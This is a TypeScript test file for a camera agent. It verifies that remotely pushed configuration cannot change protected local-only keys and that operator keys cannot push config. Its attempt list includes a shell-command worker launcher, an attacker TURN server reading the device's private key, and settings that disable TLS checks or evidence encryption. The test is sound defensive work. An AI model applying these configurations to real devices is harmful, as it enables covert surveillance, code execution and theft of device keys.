// Threat: a key allowed to push configuration (`config.apply`), or whoever has stolen it, uses a
// config change to do what no command may: make live views covert (the wearer no longer told),
// point the camera at a trust store or state folder of the attacker's choosing, run a program of
// its choice as the capture worker (capture.workerLauncher), drop TLS checks, un-revoke keys, or
// turn evidence encryption off or encrypt to the attacker's key, unlock those keys for a later push, or name a file outside the config folder (a TURN
// "password" read from the device's private key file). Keys flagged local-only in the schema
// (src/config/schema.ts, docs/configuration.md "Local-only keys") change only in the device's own
// config file, unless that file lists them in remoteConfig.unlockedKeys. An everyday operator key
// may not push configuration at all.
//
// The real agent process on a real mosquitto; a real mqtt.js client plays the fleet; waits are on
// replies and on the audit entries the agent publishes.
import t from 'tap';
import { makeCommand, makeIssuer, type Issuer } from '../helpers/command-tokens.ts';
import { FleetClient } from '../helpers/fleet-client.ts';
import { startAgentOnBroker } from '../helpers/agent-on-broker.ts';
import type { CommandAction } from '../../src/command/types.ts';

const deviceId = 'cam-rconf';
type Entry = { type: string; code: string | null; action: string | null; detail: Record<string, unknown> };

t.test('config.apply cannot change local-only keys, and needs a key that holds config.apply', async (t) => {
  const admin = await makeIssuer({ kid: 'fleet-config-1', actions: ['config.apply' as CommandAction] });
  const operator = await makeIssuer({ kid: 'ops-console-2', actions: ['stream.start', 'stream.stop'] });
  const rig = await startAgentOnBroker(t, { deviceId, issuers: [admin, operator] });
  const fleet = await FleetClient.connect(rig.broker.url);
  t.teardown(() => fleet.close());
  const audit = () => rig.recorder.on('audit').map((m) => m.json?.entry as Entry | undefined).filter((e): e is Entry => e !== undefined);
  const apply = (issuer: Issuer, config: Record<string, unknown>) =>
    fleet.request(deviceId, makeCommand({ issuer, deviceId, action: 'config.apply' as CommandAction, overrides: { reason: 'fleet-maintenance', config } }).payload);

  const byOperator = await apply(operator, { document: { gps: { idleInterval: 5 } } });
  t.equal(byOperator.code, 'action_not_permitted', `an operator key cannot push config: ${byOperator.message}`);

  const attempts: [string, Record<string, unknown>][] = [
    ['stream.covert', { document: { stream: { covert: true } } }],
    ['capture.workerLauncher', { patch: { capture: { workerLauncher: ['/bin/sh', '-c', 'id > /tmp/pwned'] } }, base: 0 }],
    ['commands.trustStore', { document: { commands: { trustStore: '/tmp/attacker.jwks.json' } } }],
    ['commands.revokedKeys', { document: { commands: { revokedKeys: [] } } }],
    ['stateDir', { document: { stateDir: '/tmp/elsewhere' } }],
    ['mqtt.tls.rejectUnauthorized', { document: { mqtt: { tls: { rejectUnauthorized: false } } } }],
    ['remoteConfig.unlockedKeys', { document: { remoteConfig: { unlockedKeys: ['stream.covert'] } } }],
    // Footage in the clear from now on, or encrypted to the attacker's own age key.
    ['recording.encryption.enabled', { patch: { recording: { encryption: { enabled: false } } }, base: 0 }],
    ['recording.encryption.recipients', { patch: { recording: { encryption: { recipients: ['age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p'] } } }, base: 0 }],
    // A TURN server of the attacker's, its "password" the device's private key.
    [
      'stream.ice.servers[0].credentialFile',
      { document: { stream: { ice: { servers: [{ urls: 'turn:198.51.100.7:3478', username: 'x', credentialFile: `${rig.stateDir}/device-key.private.pem` }] } } } },
    ],
    ['stream.ice.turnCaFile', { document: { stream: { ice: { turnCaFile: '/tmp/attacker-ca.pem' } } } }],
  ];
  for (const [key, config] of attempts) {
    const reply = await apply(admin, config);
    t.equal(reply.ok, false, `${key}: refused`);
    t.equal(reply.code, 'config_key_protected', `${key}: ${reply.message}`);
    t.match(reply.message ?? '', key, `${key}: the refusal names the key`);
  }
  await rig.recorder.waitFor(
    () => audit().filter((e) => e.type === 'command.result' && e.code === 'config_key_protected').length >= attempts.length,
    20_000,
    'every refusal audited',
  );
  const state = rig.recorder.on('state').at(-1)?.json as { config?: { version: number } } | undefined;
  t.equal(state?.config?.version, 0, 'the running configuration is unchanged (version 0: the local file only)');
  t.equal(rig.agent.child.exitCode, null, 'the agent did not restart for any of them');
});
